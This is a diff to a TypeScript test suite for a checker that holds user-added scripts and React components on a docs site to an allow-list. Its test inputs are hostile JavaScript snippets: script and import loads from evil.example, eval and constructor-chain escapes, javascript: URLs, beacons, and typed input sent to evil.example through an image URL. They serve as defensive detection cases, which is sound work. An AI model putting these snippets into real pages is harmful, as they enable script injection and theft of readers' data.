@@ -31,66 +31,226 @@ const judged = (path: string, head: string, base?: string): Promise<Finding[]> =
 const details = async (path: string, head: string, base?: string): Promise<string[]> =>
   (await judged(path, head, base)).map((f) => `${f.kind} ${f.line}: ${f.detail}`)
 
-describe('a script or component the team allows is judged for what runs in readers’ browsers', () => {
+const GLOBAL = (name: string) => `\`${name}\`, a global the check does not allow`
+const PROTOTYPE = (name: string) =>
+  `the property \`${name}\`, which reaches constructors and prototypes`
+const BUILT = ['unchecked', 'a URL built in code (`href`)'] as const
+
+describe('a script or component the team allows is held to an allow-list', () => {
   test.each([
-    ['<script src="https://evil.example/x.js" />', '<script> element'],
-    ['document.createElement("script")', '<script> element made at run time'],
-    ['import x from "https://evil.example/x.js"', 'an import from evil.example'],
-    ['export * from "//evil.example/x.js"', 'an import from evil.example'],
-    ['import("https://api.allowed.example/x.js")', 'a dynamic import from api.allowed.example'],
-    ['import(url)', 'a dynamic import of an address the code computes'],
-    ['eval("1")', 'eval'],
-    ['window["eval"]("1")', 'eval'],
-    ['new Function("return 1")()', 'the Function constructor'],
-    ['const f = Function', 'the Function constructor'],
-    ['[].map.constructor("alert(1)")()', 'the Function constructor (.constructor)'],
-    ['setTimeout("alert(1)", 10)', 'code in a string given to setTimeout'],
-    ['const c = document.cookie', "the reader's cookies (document.cookie)"],
-    ['window.document["cookie"]', "the reader's cookies (document.cookie)"],
-    ['fetch("https://evil.example/?c=1")', 'a fetch to evil.example'],
-    ['fetch(`https://evil.example/${path}`)', 'a fetch to evil.example'],
-    ['fetch("https://" + host + "/x")', 'a fetch to an address the code computes'],
-    ['window.fetch(target)', 'a fetch to an address the code computes'],
-    ['new WebSocket("wss://evil.example/s")', 'a WebSocket to evil.example'],
-    ['navigator.sendBeacon("https://evil.example/b", data)', 'a beacon to evil.example'],
+    // Every name the code leaves to the page must be a listed built-in, whatever it is called.
+    ['document.createElement("script")', 'script', GLOBAL('document')],
+    ["document.createElement('scr' + 'ipt')", 'script', GLOBAL('document')],
+    ['const d = document', 'script', GLOBAL('document')],
+    ['const send = fetch', 'script', GLOBAL('fetch')],
+    ['fetch("/api/items")', 'script', GLOBAL('fetch')],
+    ['const { eval: run } = window', 'script', GLOBAL('window')],
+    ['eval("1")', 'script', GLOBAL('eval')],
+    ['new Function("return 1")()', 'script', GLOBAL('Function')],
+    ['globalThis.x', 'script', GLOBAL('globalThis')],
+    ['new Image().src = "/p.png"', 'script', GLOBAL('Image')],
+    ['localStorage.getItem("session")', 'script', GLOBAL('localStorage')],
+    ['new WebSocket("wss://evil.example/s")', 'script', GLOBAL('WebSocket')],
+    ['new XMLHttpRequest()', 'script', GLOBAL('XMLHttpRequest')],
+    ['require("fs")', 'script', GLOBAL('require')],
+    ['Reflect.get({}, "x")', 'script', GLOBAL('Reflect')],
+    ['atob("eA==")', 'script', GLOBAL('atob')],
     [
-      'const r = new XMLHttpRequest()\nr.open("POST", "https://evil.example/x")',
-      'an XMLHttpRequest to evil.example',
+      'navigator.sendBeacon("https://evil.example/b", "x")',
+      'script',
+      GLOBAL('navigator.sendBeacon'),
     ],
-    ['el.innerHTML = text', 'markup injected through innerHTML'],
-    ['el.insertAdjacentHTML("beforeend", text)', 'markup injected with insertAdjacentHTML'],
-    ['document.write(text)', 'markup injected with document.write'],
     [
-      '<div dangerouslySetInnerHTML={{ __html: text }} />',
+      'setTimeout("alert(1)", 10)',
+      'script',
+      '`setTimeout` given something other than a function written in place',
+    ],
+    [
+      'const later = setTimeout',
+      'script',
+      '`setTimeout` given something other than a function written in place',
+    ],
+    ['Math.random = () => 4', 'script', "changes the page's global `Math`"],
+    ['name = "x"', 'script', "changes the page's global `name`"],
+    // Listed globals only through listed members.
+    [
+      'Object.getPrototypeOf({})',
+      'script',
+      '`Object.getPrototypeOf`, a member the check does not allow',
+    ],
+    ['Object.values({})', 'script', '`Object.values`, a member the check does not allow'],
+    [
+      'const O = Object',
+      'unchecked',
+      '`Object` taken as a value: its members reach further than the check allows',
+    ],
+    [
+      'JSON.stringify({}, (k, v) => v)',
+      'script',
+      '`JSON.stringify` with a replacer, which is handed every value',
+    ],
+    ['Object.assign([], { a: 1 })', 'script', '`Object.assign` into an object not made in place'],
+    // Constructors and prototypes, by any spelling; and names the code computes.
+    ['[].map.constructor("alert(1)")()', 'script', PROTOTYPE('constructor')],
+    ['const F = [].constructor.constructor', 'script', PROTOTYPE('constructor')],
+    ['const { constructor: c } = []', 'script', PROTOTYPE('constructor')],
+    ['const o = { __proto__: null }', 'script', PROTOTYPE('__proto__')],
+    ['const p = [].__lookupGetter__', 'script', PROTOTYPE('__lookupGetter__')],
+    [
+      'const k = "prototype"',
+      'script',
+      'the string "prototype", a key that reaches constructors and prototypes',
+    ],
+    [
+      'const a = [1]; const k = String(1); a[k]',
+      'unchecked',
+      'a property whose name the code computes',
+    ],
+    ['const { [String(1)]: x } = {}', 'unchecked', 'a property whose name the code computes'],
+    // What React hands a component leads no further than the component.
+    ['const go = (e) => e.view', 'script', 'the property `view`, which leads back to the page'],
+    [
+      'const r = useRef(); r.current.ownerDocument',
+      'script',
+      'the property `ownerDocument`, which leads back to the page',
+    ],
+    [
+      'const r = useRef(); r.current.innerHTML = "x"',
+      'script',
+      'the property `innerHTML`, which puts markup into the page',
+    ],
+    ['const self = this', 'script', '`this` outside a class (in a classic script, the window)'],
+    // Imports: React, and files of the repository.
+    [
+      'import x from "https://evil.example/x.js"',
+      'script',
+      'an import of "https://evil.example/x.js": only react and files of the repository may be imported',
+    ],
+    [
+      'export * from "//evil.example/x.js"',
+      'script',
+      'an import of "//evil.example/x.js": only react and files of the repository may be imported',
+    ],
+    [
+      'import x from "lodash"',
+      'script',
+      'an import of "lodash": only react and files of the repository may be imported',
+    ],
+    [
+      'import x from "../../x.js"',
+      'script',
+      'an import of "../../x.js": a path outside the repository',
+    ],
+    ['import x from "./.hidden/x.js"', 'script', 'an import of "./.hidden/x.js": a hidden file'],
+    [
+      'import { version } from "react"',
+      'script',
+      '`React.version`, a member the check does not allow',
+    ],
+    ['import("./x.js")', 'script', 'a dynamic import'],
+    ['const u = import.meta.url', 'script', '`import.meta`'],
+    // Markup: the page rules, and every URL held to the URL rules whatever builds it.
+    ['<script src="https://evil.example/x.js" />', 'script', '<script> element'],
+    ['const Tag = "scr" + "ipt"; <Tag src="/x.js" />', 'script', '<script> element'],
+    ['React.createElement("iframe", { src: "/x" })', 'script', '<iframe> element'],
+    ['React.createElement(String(1))', 'unchecked', 'createElement with a type the code computes'],
+    [
+      '<div dangerouslySetInnerHTML={{ __html: "x" }} />',
+      'script',
       'markup injected through dangerouslySetInnerHTML',
     ],
-    ['const a = <a href="javascript:alert(1)">x</a>', 'a javascript: URL'],
-    ['<link rel="stylesheet" href="https://evil.example/x.css" />', 'a <link> to evil.example'],
-    ['globalThis[name]()', 'a computed property of globalThis'],
-  ])('%s is found: %s', async (code, detail) => {
+    ['<iframe srcDoc="<b>x</b>" />', 'script', 'markup injected through srcDoc'],
+    [
+      '<style>{"a { color: red }"}</style>',
+      'script',
+      '<style> element (CSS the check does not judge in JSX)',
+    ],
+    [
+      '<Image src="/a.png" />',
+      'script',
+      "`<Image>`, a component named like the page's global `Image`",
+    ],
+    ['<a href="javascript:alert(1)">x</a>', 'script', 'a javascript: URL'],
+    ['<a href={"java" + "script:alert(1)"}>x</a>', 'script', 'a javascript: URL'],
+    ['<a href={["javascript:alert(1)"][0]}>x</a>', 'script', 'a javascript: URL'],
+    ['const u = String(1); <a href={u}>x</a>', ...BUILT],
+    ['const u = String(1); <a href={`java${u}`}>x</a>', ...BUILT],
+    ['const u = String(1); <a href={u + "/x"}>x</a>', ...BUILT],
+    [
+      'const Link = ({ to }) => <a href={to}>x</a>; <Link to={"java" + "script:x"} />',
+      'script',
+      'a javascript: URL',
+    ],
+    ['const p = { href: "javascript:x" }; <a {...p}>x</a>', 'script', 'a javascript: URL'],
+    [
+      '<link rel="stylesheet" href="https://evil.example/x.css" />',
+      'script',
+      'a <link> to evil.example',
+    ],
+    // What a reader typed, sent away in an address or a style.
+    [
+      'const [v] = useState(""); <img src={"https://evil.example/l?" + v} />',
+      'script',
+      'a URL to evil.example that the code completes (`src`)',
+    ],
+    [
+      '<div style={{ backgroundImage: "url(https://evil.example/a.png)" }} />',
+      'script',
+      'CSS that loads from evil.example (a style)',
+    ],
+    [
+      'const [v] = useState(""); <div style={{ background: "url(/a?" + v + ")" }} />',
+      'unchecked',
+      'a style the code builds (`background`)',
+    ],
+    [
+      'const r = useRef(); r.current.style.setProperty("--x", String(1))',
+      'unchecked',
+      'a style the code builds (`--x`)',
+    ],
+    ['const s = String(1); <div style={s} />', 'unchecked', 'a style the code computes'],
+    [
+      'const r = useRef(); r.current.animate([{ opacity: 0 }], 200)',
+      'script',
+      'the property `animate`, which sets styles the check cannot judge',
+    ],
+  ] as const)('%s: %s, %s', async (code, kind, detail) => {
     // A module's imports stand at its top level; the rest in a component.
     const head = /^(import|export) /.test(code)
       ? `${code}\n${COMPONENT}`
-      : `${COMPONENT}export const Widget = () => {\n  ${code}\n}\n`
+      : `${COMPONENT}export const Widget = () => {\n  ${code}\n  return null\n}\n`
     const found = await judged('snippets/widget.jsx', head)
-    expect(found.map((f) => [f.kind, f.severity, f.detail])).toContainEqual([
-      'script',
-      'block',
-      detail,
-    ])
+    expect(found.map((f) => [f.kind, f.severity, f.detail])).toContainEqual([kind, 'block', detail])
   })
 
-  test('a component that shows state, handles clicks and asks its own site or an allowed host passes', async () => {
+  test('a component that shows state, handles clicks, maps a list and links its own site or a URL it is given passes', async () => {
     const head = [
       COMPONENT,
-      'export const Data = () => {',
-      '  useEffect(() => { fetch("/api/items").then((r) => r.json()) }, [])',
-      '  useEffect(() => { fetch("https://api.allowed.example/v1") }, [])',
-      '  setTimeout(() => setOpen(false), 100)',
-      '  return <img src="/logo.png" alt="" />',
+      'export const Data = ({ items, href }) => {',
+      '  const [open, setOpen] = useState(false)',
+      '  useEffect(() => { const t = setTimeout(() => setOpen(false), 100); return () => clearTimeout(t) }, [])',
+      '  const rows = (items ?? []).map((item, i) => <li key={item.id}>{i + 1}: {JSON.stringify(item)}</li>)',
+      '  return <div className={open ? "a" : "b"} style={{ margin: 0 }}>',
+      '    <img src="/logo.png" alt="" style={{ width: `${open ? 50 : 100}%`, background: "url(/bg.png)" }} />',
+      '    <a href={href}>More</a><a href={`/guides/${open}`}>Guide</a>',
+      '    <ul>{rows}</ul>',
+      '  </div>',
       '}',
     ].join('\n')
     expect(await judged('snippets/data.jsx', head)).toEqual([])
+  })
+
+  test('a prop of the platform’s component or the file’s own is text; one passed on to an import is a URL', async () => {
+    const own = [
+      'import { L } from "./l.jsx"',
+      'const W = ({ t }) => <b>{t}</b>',
+      'const Pass = ({ to }) => <L to={to} />',
+      'export const A = ({ n }) => <><Card title={`${n} steps`} /><W t={`${n} items`} /></>',
+      'export const B = ({ x }) => <Pass to={"java" + x} />',
+    ].join('\n')
+    expect(await details('snippets/a.jsx', `${own}\n`)).toEqual([
+      'unchecked 5: a URL built in code (`to`)',
+    ])
   })
 
   test('only what the change adds counts: a fetch the base had already is the docs’ own', async () => {
@@ -110,8 +270,15 @@ describe('a script or component the team allows is judged for what runs in reade
     ])
   })
 
-  test('a classic script (no module) is read as one', async () => {
-    expect(await details('custom.js', 'with (document) { cookie }\n')).toEqual([])
+  test('a classic script is read as one: `with`, and top-level names that replace the page’s', async () => {
+    expect(await details('custom.js', 'with (document) { cookie }\nfunction fetch() {}\n')).toEqual(
+      [
+        `script 1: ${GLOBAL('document')}`,
+        `script 1: ${GLOBAL('cookie')}`,
+        'script 1: a `with` statement, which hides what its names refer to',
+        "script 2: redefines the page's global `fetch`",
+      ],
+    )
   })
 })
 
@@ -123,7 +290,7 @@ describe('TypeScript and TSX', () => {
     const found = await details('snippets/go.ts', head)
     expect(found).toEqual(
       strips
-        ? ['script 2: a fetch to an address the code computes', 'script 3: a fetch to evil.example']
+        ? [`script 2: ${GLOBAL('fetch')}`, `script 3: ${GLOBAL('fetch')}`]
         : ['unchecked 1: TypeScript, which this Node cannot read (it needs Node 24)'],
     )
   })
